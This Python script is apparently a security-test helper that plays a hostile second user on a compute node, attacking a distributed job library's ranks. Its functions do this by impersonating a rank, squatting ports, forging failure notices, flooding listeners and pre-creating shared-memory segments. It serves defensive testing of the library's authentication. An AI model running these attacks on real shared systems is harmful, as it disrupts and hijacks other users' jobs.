#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Another user of the node, attacking a running job's ranks (trust_test.sh runs it as a second
uid). It knows what anyone can learn: rank 0's port, the listeners' uids in /proc/net/tcp, the
names in /dev/shm. It does not know the step's secret: where a rank greets with trellis's
challenge it answers with an HMAC under a key of its own; where a rank does not (an older
build), it speaks the older greeting, which asked for no proof.

    stranger.py impostor HOST PORT SECONDS   claim rank 1 of 2 at rank 0's rendezvous
    stranger.py heartbeats HOST PORT SECONDS claim rank 1, link to rank 0 and send only heartbeats
    stranger.py squatter PORT SECONDS        hold rank 0's port first and answer the ranks' calls
    stranger.py notice UID SIZE SECONDS      link to UID's listeners as each rank and send a forged
                                             failure notice
    stranger.py flood UID COUNT SECONDS [PORT]  hold COUNT connections to each of UID's listeners
                                             (or to PORT alone)
    stranger.py shm SECONDS                  make the names of a job's other segments in /dev/shm

Prints one line per thing it achieved ("joined as rank 1", "linked as rank 3 to port P").
"""

import os
import socket
import struct
import sys
import threading
import time

CHALLENGE = 0x544C4348  # what a rank that asks for proof sends first
CLAIM = 0x544C434C
OLD_JOIN, OLD_PARENT, OLD_HELLO = 0x544C5253, 0x544C5250, 0x544C4E4B
PURPOSE_JOIN, PURPOSE_LINK = 1, 3
HEARTBEAT = 0xFFFFFFFF


def say(text):
    print(text, flush=True)


def receive(s, n, wait=2.0):
    s.settimeout(wait)
    data = b""
    try:
        while len(data) < n:
            part = s.recv(n - len(data))
            if not part:
                break
            data += part
    except OSError:
        pass
    return data


def blob(data):
    return struct.pack("<I", len(data)) + data


def challenged(s):
    """Whether the rank at the other end greets with a challenge (it then wants a proof)."""
    first = receive(s, 20, wait=0.5)
    return len(first) == 20 and struct.unpack("<I", first[:4])[0] == CHALLENGE


def forged_claim(purpose, caller, callee, stream, size, payload=b""):
    # Every field a rank would send; the HMAC is a guess, as it must be without the secret.
    head = struct.pack("<IIiiii", CLAIM, purpose, caller, callee, stream, size)
    return head + os.urandom(16) + struct.pack("<I", len(payload)) + os.urandom(32) + payload


def connect(host, port, until):
    while time.monotonic() < until:
        try:
            return socket.create_connection((host, port), timeout=1)
        except OSError:
            time.sleep(0.005)
    return None


def claim_rank1(host, port, until, listener):
    """Calls rank 0 as rank 1 of 2, saying it listens on `listener`; True when accepted."""
    where = b"127.0.0.1:%d" % listener.getsockname()[1]
    while time.monotonic() < until:
        s = connect(host, port, until)
        if s is None:
            return False
        if challenged(s):
            s.sendall(forged_claim(PURPOSE_JOIN, 1, 0, -1, 2, where))
            proof = receive(s, 32)
            s.close()
            if len(proof) == 32:
                say("rank 0 answered a forged claim")
                return True
            time.sleep(0.05)
            continue
        s.sendall(struct.pack("<Iii", OLD_JOIN, 1, 2) + blob(where))
        s.close()
        say("joined as rank 1")
        return True
    return False


def impostor(host, port, seconds, heartbeats_only=False):
    until = time.monotonic() + seconds
    rendezvous, links = socket.create_server(("127.0.0.1", 0)), socket.create_server(("127.0.0.1", 0))
    if not claim_rank1(host, port, until, rendezvous):
        return
    # An older rank 0 calls back as the tree's parent with the table, then gathers endpoints.
    rendezvous.settimeout(max(0.1, until - time.monotonic()))
    try:
        parent, _ = rendezvous.accept()
    except OSError:
        return
    receive(parent, 12)
    count = struct.unpack("<I", receive(parent, 4))[0]
    for _ in range(count):
        receive(parent, struct.unpack("<I", receive(parent, 4))[0])
    parent.sendall(struct.pack("<I", 1) + blob(b"127.0.0.1|%d|stranger" % links.getsockname()[1]))
    say("passed for rank 1 in the rendezvous")
    if not heartbeats_only:
        time.sleep(max(0, until - time.monotonic()))
        return
    links.settimeout(max(0.1, until - time.monotonic()))
    controls = []
    try:
        while len(controls) < 3:
            s, _ = links.accept()
            hello = receive(s, 16)
            if len(hello) == 16 and struct.unpack("<Iiii", hello)[3] == -1:
                s.sendall(b"\x01")
            controls.append(s)
    except OSError:
        return
    say("linked to rank 0: sending heartbeats only")
    while time.monotonic() < until:
        controls[0].sendall(struct.pack("<I", HEARTBEAT))
        time.sleep(0.5)


def squatter(port, seconds):
    until = time.monotonic() + seconds
    server = socket.create_server(("127.0.0.1", port))
    say("holding port %d" % port)
    server.settimeout(0.2)
    while time.monotonic() < until:
        try:
            s, _ = server.accept()
        except OSError:
            continue
        # Plays rank 0: asks for proof as a rank would, then answers with a guess.
        s.sendall(struct.pack("<I", CHALLENGE) + os.urandom(16))
        first = receive(s, 12, wait=0.5)
        if len(first) >= 4 and struct.unpack("<I", first[:4])[0] == OLD_JOIN:
            say("heard rank %d's join: it takes this process for rank 0" % struct.unpack("<Iii", first)[1])
        else:
            receive(s, 76 + 64, wait=0.2)
            s.sendall(os.urandom(32))
        s.close()


def listeners_of(uid):
    ports = []
    for line in open("/proc/net/tcp").readlines()[1:]:
        fields = line.split()
        if fields[3] == "0A" and fields[7] == str(uid):
            ports.append(int(fields[1].split(":")[1], 16))
    return ports


def notice(uid, size, seconds):
    until = time.monotonic() + seconds
    asks_proof = {}
    tried = set()
    while time.monotonic() < until:
        for port in listeners_of(uid):
            if port not in asks_proof:
                try:
                    with socket.create_connection(("127.0.0.1", port), timeout=1) as probe:
                        asks_proof[port] = challenged(probe)
                except OSError:
                    continue
            for caller in range(size):
                for callee in range(size):
                    if caller == callee or (port, caller, callee) in tried:
                        continue
                    tried.add((port, caller, callee))
                    try:
                        s = socket.create_connection(("127.0.0.1", port), timeout=1)
                    except OSError:
                        continue
                    if asks_proof[port]:
                        receive(s, 20)
                        s.sendall(forged_claim(PURPOSE_LINK, caller, callee, -1, size))
                        if len(receive(s, 32, wait=0.5)) == 32:
                            say("a rank answered a forged link claim")
                        s.close()
                        continue
                    s.sendall(struct.pack("<Iiii", OLD_HELLO, caller, callee, -1))
                    if receive(s, 1, wait=0.5) == b"\x01":
                        text = b"42|gpu-node-42|CUDA error: an illegal memory access (Xid 79)"
                        s.sendall(struct.pack("<I", len(text)) + text)
                        say("linked as rank %d to port %d: sent a forged failure notice" % (caller, port))
                        time.sleep(0.5)
                    s.close()
        time.sleep(0.1)


def flood(uid, count, seconds, only_port=None):
    until = time.monotonic() + seconds
    held = []
    while time.monotonic() < until and not held:
        for port in [only_port] if only_port else listeners_of(uid):
            for _ in range(count):
                try:
                    held.append(socket.create_connection(("127.0.0.1", port), timeout=1))
                except OSError:
                    break
        time.sleep(0.05)
    say("holding %d connections" % len(held))
    time.sleep(max(0, until - time.monotonic()))


def shm(seconds):
    until = time.monotonic() + seconds
    seen = set(os.listdir("/dev/shm"))
    while time.monotonic() < until:
        for name in set(os.listdir("/dev/shm")) - seen:
            seen.add(name)
            parts = name.split("-")
            if name.startswith("trellis-") and len(parts) == 3 and parts[2] == "0":
                for r in range(1, 16):
                    try:
                        os.close(os.open("/dev/shm/trellis-%s-%d" % (parts[1], r), os.O_CREAT | os.O_EXCL, 0o600))
                    except OSError:
                        pass
                say("made the other segments of job %s" % parts[1])
        time.sleep(0.001)


def main():
    kind, args = sys.argv[1], sys.argv[2:]
    if kind == "impostor":
        impostor(args[0], int(args[1]), float(args[2]))
    elif kind == "heartbeats":
        impostor(args[0], int(args[1]), float(args[2]), heartbeats_only=True)
    elif kind == "squatter":
        squatter(int(args[0]), float(args[1]))
    elif kind == "notice":
        notice(int(args[0]), int(args[1]), float(args[2]))
    elif kind == "flood":
        flood(int(args[0]), int(args[1]), float(args[2]), int(args[3]) if len(args) > 3 else None)
    elif kind == "shm":
        shm(float(args[0]))
    else:
        sys.exit(__doc__)


if __name__ == "__main__":
    main()
